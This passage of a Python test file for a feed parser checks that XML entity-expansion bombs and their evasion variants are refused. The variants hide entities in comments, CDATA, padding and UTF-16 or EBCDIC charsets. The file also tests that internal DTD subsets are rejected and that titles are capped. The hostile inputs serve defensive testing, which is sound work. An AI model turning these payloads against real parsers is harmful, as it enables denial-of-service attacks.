        # No "[" at all: feedparser builds the subset itself from <!ENTITY> lines before the root.
        (_dtd_rss(f"\n<!DOCTYPE rss>{LINE_ENTITY}", "&a;" * 50), "refusing entity expansion"),
        (_dtd_rss(f"\n<!DOCTYPE rss>\n<!--{LINE_ENTITY}-->\n", "&a;" * 50), "refusing entity expansion"),
        (_dtd_rss(f"\n<!DOCTYPE rss>\n<![CDATA[{LINE_ENTITY}]]>\n", "&a;" * 50), "refusing entity expansion"),
        (_dtd_rss(LINE_ENTITY, "&a;" * 50), "refusing entity expansion"),
        (_dtd_rss(f'<!DOCTYPE rss PUBLIC "-//X//EN" "x.dtd" [{NESTED}]>'), "refusing entity expansion"),
        (_dtd_rss(f"<!DOCTYPE rss [<!-- ]> -->{NESTED}]>").decode().encode("utf-16"), "refusing entity expansion"),
        (_dtd_rss(f"<!DOCTYPE rss [<!-- ]> -->{NESTED}]>", declaration=""), "refusing entity expansion"),
    ],
    ids=["comment-hides-subset-end", "comment-6MB-title", "comment-hides-system-entity",
         "quoted-subset-end", "pi-subset-end", "attlist-default-subset-end", "entity-line-no-subset",
         "entity-line-in-comment", "entity-line-in-cdata", "entity-line-no-doctype", "public-id-and-subset",
         "utf16", "no-xml-declaration"],
)
def test_entity_declarations_are_refused_wherever_they_hide(body: bytes, reason: str) -> None:
    started = time.perf_counter()
    with pytest.raises(FeedRejectedError, match=re.escape(reason)) as info:
        parse_feed(body, FEED_URL)
    # A wide bound (an expansion would run for minutes or exhaust memory), not a benchmark.
    assert time.perf_counter() - started < 10.0, "the gate must refuse before any parser expands anything"
    assert info.value.url == FEED_URL


def test_padded_bomb_is_refused_before_parsing() -> None:
    # expat's amplification limit is relative to the input: 1 MB of padding let &e; (10 MB) through.
    padding = "<!--" + " " * 1_000_000 + "-->"
    body = _dtd_rss(f"<!DOCTYPE rss [<!-- ]> -->{NESTED}]>{padding}")
    started = time.perf_counter()
    with pytest.raises(FeedRejectedError, match="refusing entity expansion"):
        parse_feed(body, FEED_URL)
    assert time.perf_counter() - started < 10.0


@pytest.mark.parametrize(
    "content_type",
    ["application/xml; charset=cp500", "application/xml; charset=utf-8, application/xml; charset=cp500"],
    ids=["one-header", "second-header"],
)
def test_markup_hidden_by_the_http_charset_is_refused(content_type: str) -> None:
    # The gate and feedparser must read the same charset from repeated Content-Type headers (joined
    # by ", "): the gate once took the first charset, feedparser the last, so EBCDIC markup got past.
    body = ('<!DOCTYPE rss [<!ENTITY x "boom">]><rss version="2.0"><channel><item><title>&x;</title>'
            "</item></channel></rss>").encode("cp500")
    with pytest.raises(FeedRejectedError, match="refusing entity expansion"):
        parse_feed(body, FEED_URL, headers={"Content-Type": content_type})


@pytest.mark.parametrize(
    "subset",
    ["<!ATTLIST rss version CDATA '2.0'>", "<!ELEMENT rss ANY>", "", "<!-- nothing -->"],
    ids=["attlist", "element", "empty", "comment-only"],
)
def test_any_internal_subset_is_refused(subset: str) -> None:
    # No feed in the captured corpus or in feedparser's conformance suite needs an internal subset.
    with pytest.raises(FeedRejectedError, match="internal subset"):
        parse_feed(_dtd_rss(f"<!DOCTYPE rss [{subset}]>", "plain"), FEED_URL)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
        '<!DOCTYPE rss SYSTEM "odd [name].dtd">',
        "<!DOCTYPE rss>",
        "<!-- <!DOCTYPE and ]> and [ in a comment -->",
    ],
    ids=["netscape-public", "bracket-in-system-literal", "bare", "comment"],
)
def test_doctype_without_internal_subset_still_parses(doctype: str) -> None:
    feed = parse_feed(_dtd_rss(f"\n{doctype}\n", "One"), FEED_URL)
    assert [i.title for i in feed.items] == ["One"]


def test_json_feed_may_quote_markup() -> None:
    # JSON is never handed to an XML parser, so markup inside its strings is only text.
    body = json.dumps({
        "version": "https://jsonfeed.org/version/1.1", "title": "XML notes",
        "items": [{"id": "1", "url": "https://news.example/xxe", "title": "How entity attacks work",
                   "content_html": '<pre>&lt;!DOCTYPE x [&lt;!ENTITY a "b"&gt;]&gt;</pre> <!DOCTYPE x [<!ENTITY a "b">]>'}],
    }).encode()
    feed = parse_feed(body, FEED_URL)
    assert [i.title for i in feed.items] == ["How entity attacks work"]


# --- caps on parsed text --------------------------------------------------------------------------

LONG_TITLE = "The minister said the budget would rise. " * 500  # 20,500 characters: a body, not a headline


@pytest.mark.parametrize(
    "body",
    [
        _dtd_rss("", LONG_TITLE),
        (f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><id>1</id>'
         f'<title>{LONG_TITLE}</title><link href="https://news.example/1"/></entry></feed>').encode(),
        json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "t",
                    "items": [{"id": "1", "url": "https://news.example/1", "title": LONG_TITLE}]}).encode(),
        ('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
         'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"><url><loc>https://news.example/1</loc>'
         f'<news:news><news:title>{LONG_TITLE}</news:title></news:news></url></urlset>').encode(),
    ],
    ids=["rss", "atom", "json-feed", "news-sitemap"],
)
def test_item_titles_are_capped(body: bytes) -> None:
    (item,) = parse_feed(body, FEED_URL).items
    assert len(item.title) <= TITLE_MAX_CHARS
    assert item.title.endswith("\u2026") and LONG_TITLE.startswith(item.title[:-1] + " "), (
        "cut at a word boundary, marked with an ellipsis")


def test_feed_title_author_and_categories_are_capped() -> None:
    long = "word " * 400
    body = (f'<?xml version="1.0"?><rss version="2.0"><channel><title>{long}</title><item><title>A</title>'
            f"<author>{long}</author><category>{long}</category><link>https://news.example/1</link>"
            f"<description>{long}</description></item></channel></rss>").encode()
    feed = parse_feed(body, FEED_URL)
    (item,) = feed.items
    assert feed.title is not None and len(feed.title) <= TITLE_MAX_CHARS
    assert item.author is not None and len(item.author) <= TITLE_MAX_CHARS
    assert all(len(c) <= TITLE_MAX_CHARS for c in item.categories) and item.categories
    assert len(item.summary) <= SUMMARY_MAX_CHARS


def test_guid_from_title_still_sees_the_whole_title() -> None:
    # Items without id or link are keyed by a hash of the title: capping must not merge two items.
    head = "x " * TITLE_MAX_CHARS
    body = (f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
            f"<item><title>{head}one</title></item><item><title>{head}two</title></item></channel></rss>").encode()
    items = parse_feed(body, FEED_URL).items
    assert len(items) == 2 and items[0].title == items[1].title
    assert items[0].guid != items[1].guid


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Short headline", "Short headline"),
        ("", ""),
        ("a" * TITLE_MAX_CHARS, "a" * TITLE_MAX_CHARS),
        ("a" * (TITLE_MAX_CHARS + 1), "a" * (TITLE_MAX_CHARS - 1) + "\u2026"),
        ("word " * 100, ("word " * 59).rstrip() + "\u2026"),
    ],
    ids=["short", "empty", "at-limit", "one-over-no-spaces", "words"],
)
def test_truncate_title(title: str, expected: str) -> None:
    assert truncate_title(title) == expected
    assert len(truncate_title(title)) <= TITLE_MAX_CHARS


def test_truncate_title_rejects_a_useless_limit() -> None:
    with pytest.raises(ValueError, match="limit"):
        truncate_title("abc", limit=1)
